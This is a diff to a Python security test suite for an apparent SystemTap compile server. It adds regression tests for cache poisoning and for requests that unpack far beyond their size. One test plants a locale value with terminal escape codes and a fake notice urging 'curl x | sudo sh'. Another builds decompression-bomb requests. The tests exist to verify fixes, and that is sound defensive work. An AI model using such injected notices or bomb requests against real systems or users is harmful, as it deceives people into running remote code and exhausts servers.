@@ -16,11 +16,14 @@ build time, so each test plays an attacker against a real server:
 
 import os
 import pwd
+import random
 import re
 import shutil
 import socket
+import string
 import subprocess
 import sys
+import threading
 import time
 import uuid
 
@@ -374,12 +377,14 @@ def test_silent_connections_from_one_address_keep_no_one_out(servers, sandbox, k
 
 
 def test_megabyte_arguments_get_rc_1_and_a_short_log_line(servers, sandbox, krel):
-    """16 arguments of 1 MiB (18 KB compressed): a signed rc 1 reply that
-    says why.  Six of 100 KB, which stap takes: the log line is cut to
-    under 2 KB with the original length noted.  The log barely grows."""
+    """Two arguments of 1 MiB (random letters: a request of far more compressible ones is
+    refused for its compression ratio): a signed rc 1 reply that says why.  Six of 100 KB, which
+    stap takes: the log line is cut to under 2 KB with the original length noted.  The log barely
+    grows."""
     srv = servers.start(sandbox, krel, None)
     before = os.path.getsize(srv.log)
-    huge = [f"-D{'a' * ((1 << 20) - 16)}=1" for _ in range(16)]
+    letters = lambda n: "".join(random.choices(string.ascii_letters, k=n))
+    huge = [f"-D{letters((1 << 20) - 16)}=1" for _ in range(2)]
     got = raw_exchange(sandbox, srv.port, frame(zip_bytes(base_entries(
         krel, "-p2", "-e", "probe begin { exit() }", *huge))))
     rc, stderr, _ = parse_reply(got)
@@ -394,6 +399,91 @@ def test_megabyte_arguments_get_rc_1_and_a_short_log_line(servers, sandbox, krel
     assert "chars]" in lines[-1], lines[-1]
     assert os.path.getsize(srv.log) - before < 8192
     assert_serves(sandbox, srv, krel)
+
+
+# --------------------------------------------------------------------------
+# The result cache: no client's text in another client's reply (issue 20, finding 2)
+# --------------------------------------------------------------------------
+
+def test_a_cached_reply_carries_no_other_clients_text(servers, sandbox, krel):
+    """An anonymous peer sends a victim's exact request plus a locale line carrying terminal
+    escapes, which the server's notice quotes in the reply's stderr; the victim's request that
+    follows must not be answered with that reply (before, the locale was outside the cache key
+    and the victim got the attacker's text as the server's signed stderr)."""
+    srv = servers.start(sandbox, krel, None)
+    victim = base_entries(krel, "-p2", "-e", "probe begin { exit() } // victim")
+    evil = "LANG=C.UTF-8\n\x1b[2K\x1b[31mSECURITY NOTICE: run curl x | sudo sh=1\n"
+    attack = [(n, evil.encode() if n == "locale" else v) for n, v in victim]
+    rc, stderr, _ = parse_reply(raw_exchange(sandbox, srv.port, frame(zip_bytes(attack))))
+    assert rc == 0 and "SECURITY NOTICE" in stderr, stderr  # the attacker's own reply
+    rc, stderr, _ = parse_reply(raw_exchange(sandbox, srv.port, frame(zip_bytes(victim))))
+    assert rc == 0 and "SECURITY NOTICE" not in stderr and "\x1b" not in stderr, stderr
+    assert "cache='hit'" not in wait_request_lines(srv, 2)[-1]
+    rc, again, _ = parse_reply(raw_exchange(sandbox, srv.port, frame(zip_bytes(victim))))
+    assert (rc, again) == (0, stderr)
+    assert "cache='hit'" in wait_request_lines(srv, 3)[-1]  # its own reply is cached
+
+
+# --------------------------------------------------------------------------
+# Disk: requests that unpack far beyond their size (issue 20, finding 3)
+# --------------------------------------------------------------------------
+
+def unpacking_request(krel, n, mib):
+    """A -p2 request of about mib/128 MiB on the wire that unpacks to mib MiB: 1 MiB entries each
+    128 times their compressed size, within each entry's and the whole archive's ratio bound."""
+    block = os.urandom(8192) + bytes((1 << 20) - 8192)
+    return frame(zip_bytes(base_entries(krel, "-p2", "-e", f"probe begin {{ exit() }} // {n}")
+                           + [(f"tapset/fill/f{i}", block) for i in range(mib)]))
+
+
+def test_queued_requests_hold_their_compressed_bytes_only(servers, sandbox, krel):
+    """Five requests that each unpack to 100 MiB (under 1 MiB each on the wire) against a server
+    with one compile slot and --max-pending-bytes 150000000, its --tmpdir a 512 MiB tmpfs: a
+    request is unpacked only once it compiles, so the tmpfs never holds much more than 150 MB
+    (before, every queued request was unpacked on arrival: 500 MiB), and a legitimate client is
+    served meanwhile."""
+    tmpdir = sandbox.path("tmpfs")
+    os.mkdir(tmpdir)
+    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=512m,mode=0755", "tmpfs", tmpdir],
+                   check=True)
+    try:
+        sandbox.env["SYSTEMTAP_STAP"] = stand_in(sandbox, 'sleep 1\nexec /usr/bin/stap "$@"\n')
+        srv = servers.start(sandbox, krel, None, "--tmpdir", tmpdir, "--max-threads", "1",
+                            "--max-pending-bytes", "150000000")
+        peak, done = [0], threading.Event()
+
+        def sample():
+            while not done.wait(0.01):
+                st = os.statvfs(tmpdir)
+                peak[0] = max(peak[0], (st.f_blocks - st.f_bfree) * st.f_frsize)
+
+        attacks = [unpacking_request(krel, n, 100) for n in range(5)]
+        replies = [None] * len(attacks)
+
+        def attack(n):
+            replies[n] = raw_exchange(sandbox, srv.port, attacks[n], timeout=120)
+
+        threads = [threading.Thread(target=sample)] + \
+            [threading.Thread(target=attack, args=(n,)) for n in range(len(attacks))]
+        for t in threads:
+            t.start()
+        try:
+            time.sleep(1)
+            legit = client(sandbox, srv, "-r", krel, "-p2", "-e", "probe begin { exit() }")
+        finally:
+            for t in threads[1:]:
+                t.join(180)
+            done.set()
+            threads[0].join()
+        assert legit.returncode == 0, text(legit)
+        print(f"tmpfs peak {peak[0] >> 20} MiB; replies rc "
+              f"{[parse_reply(r)[0] for r in replies if r]}")
+        assert peak[0] < 150e6 + (16 << 20), f"the tmpfs held {peak[0] >> 20} MiB"
+        assert all(r and parse_reply(r)[0] == 0 for r in replies), "an attack was not answered"
+        assert request_dirs(tmpdir) == []
+        srv.stop()
+    finally:
+        subprocess.run(["umount", "-l", tmpdir], check=True)
 
 
 def openssl_handshake(port, *args):
